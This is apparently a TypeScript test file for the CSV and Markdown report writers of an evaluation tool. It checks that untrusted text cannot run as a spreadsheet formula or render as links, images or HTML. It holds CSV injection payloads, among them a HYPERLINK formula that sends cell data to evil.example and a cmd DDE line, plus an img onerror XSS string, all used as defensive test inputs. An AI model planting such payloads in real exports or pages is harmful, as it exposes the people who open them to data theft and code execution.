/**
 * The CSV and Markdown report writers (Export Results… and any later --format): what a reader of
 * the file gets, and that text from the file or the server can neither run as a spreadsheet
 * formula nor become a link, an image or HTML.
 */
import * as assert from 'node:assert/strict';
import { CSV_COLUMNS, csvCell, writeCsv } from '../../src/core/report/csv';
import { mdText, writeMarkdown } from '../../src/core/report/markdown';
import { countVerdicts, type ResultItem, type RunResult } from '../../src/core/results';
import { csvRows } from './csvRows';
import { item } from './resultItems';

function run(items: ResultItem[], o: Partial<RunResult> = {}): RunResult {
  return {
    eval_uuid: 'eval.1', eval_run_uuid: 'score_run.1', run_name: 'bot.json 1', status: 'finished', pass_rate: 0.5, eval_name: 'Support bot', eval_type: 'safety',
    created_at: '2026-12-06T10:00:00Z', completed_at: '2026-12-06T10:01:00Z', is_sandbox: false, counts: countVerdicts(items), items, notes: [], ...o,
  };
}

const loc = (line: number) => ({ offset: line * 10, length: 5, line, column: 3, pointer: `/responses/${line}` });

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?q="&A1,"click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
];

describe('CSV report', () => {
  it('has a header and one row per response, failures first, with numbers as numbers and quoting that reads back', () => {
    const r = run([item('p1', 'passed', { location: loc(4) }), item('p2', 'failed', { location: loc(9), confidence: 0.93, explanation: 'Gave a refund, "no questions", asked, then more' })]);
    const rows = csvRows(writeCsv(r, 'bots/bot.json'));
    assert.deepEqual(rows[0], [...CSV_COLUMNS]);
    assert.equal(rows.length, 3);
    const [failed, passed] = [rows[1]!, rows[2]!];
    assert.deepEqual(failed, ['bots/bot.json', 'eval.1', 'score_run.1', 'p2', '', '1', 'failed', '0.93', '9', '3', '/responses/9', 'Gave a refund, "no questions", asked, then more']);
    assert.equal(passed[6], 'passed');
    assert.match(writeCsv(r, 'x'), /\r\n$/, 'CRLF line ends (RFC 4180)');
  });

  it('defuses every cell a spreadsheet would run as a formula (= + - @ tab CR), in explanations, ids and the file name', () => {
    for (const evil of HOSTILE) {
      const cell = csvCell(evil);
      assert.ok(!/^[=+\-@\t\r]/.test(cell), `${JSON.stringify(evil)} → ${JSON.stringify(cell)} still starts a formula`);
      assert.ok(cell.includes(evil.trim().replace(/\s+/g, ' ').slice(1)), 'the text is kept');
    }
    const r = run([item('=1+1', 'failed', { explanation: HOSTILE[0]!, thread_uuid: '@t' })]);
    const row = csvRows(writeCsv(r, '+file.json'))[1]!;
    for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell), `cell ${JSON.stringify(cell)} starts a formula`);
    assert.equal(row[3], "'=1+1");
    assert.equal(row[0], "'+file.json");
  });

  it('writes each text cell as one inert line (no control characters, escape sequences or bidi overrides)', () => {
    const r = run([item('p1', 'failed', { explanation: 'line one\nline two\u001b[31m red \u202eevil\u0007' })]);
    const cell = csvRows(writeCsv(r, 'f'))[1]![11]!;
    assert.equal(cell, 'line one line two [31m red evil');
  });

  it('an empty run is just the header', () => {
    assert.deepEqual(csvRows(writeCsv(run([]), 'f')), [[...CSV_COLUMNS]]);
  });
});

describe('Markdown report', () => {
  it('states the run, the totals and the pass rate, then a table row per response, failures first', () => {
    const r = run([item('p1', 'passed', { location: loc(4), confidence: null }), item('p2', 'failed', { location: loc(9), confidence: 0.93, explanation: 'Promised a refund' })]);
    const md = writeMarkdown(r, 'bot.json');
    const lines = md.split('\n');
    assert.equal(lines[0], '# Aymara results: bot\\.json');
    assert.ok(lines.includes('- Eval: Support bot (eval\\.1)'));
    assert.ok(lines.includes('- Pass rate: 50\\%'));
    assert.ok(lines.includes('- Totals: 1 passed, 1 failed, 0 refused, 0 excluded, 0 errored'));
    const table = lines.filter((l) => l.startsWith('| '));
    assert.deepEqual(table.slice(2), ['| Failed | p2 | 1 | 9 | 93% | Promised a refund |', '| Passed | p1 | 1 | 4 |  | passed because |']);
  });

  it('escapes every Markdown and HTML character of untrusted text, so it renders as written', () => {
    const evil = '[click](https://evil.example) ![x](https://evil.example/t.png) <img src=x onerror=alert(1)> **b** `c` | cell www.evil.example a@b.example # h';
    const out = mdText(evil);
    // Every ASCII punctuation character is escaped (a backslash before it), so none acts as syntax.
    assert.ok(!/[!-/:-@[-`{-~]/.test(out.replace(/\\[!-/:-@[-`{-~]/g, '')), out);
    assert.equal(out.replace(/\\(.)/g, '$1'), evil, 'reads back as the same text');
    assert.equal(mdText('a\nb\u202ec'), 'a b c', 'one line: no row or paragraph break, no bidi override');
  });

  it('keeps a table row a row whatever the explanation holds (pipes, line breaks)', () => {
    const md = writeMarkdown(run([item('p|1', 'failed', { explanation: 'a | b\n\n| c | d |' })]), 'f');
    const row = md.split('\n').filter((l) => l.startsWith('| '))[2]!;
    assert.equal(row.split(/(?<!\\)\|/).length - 2, 6, `six cells: ${row}`);
  });
});
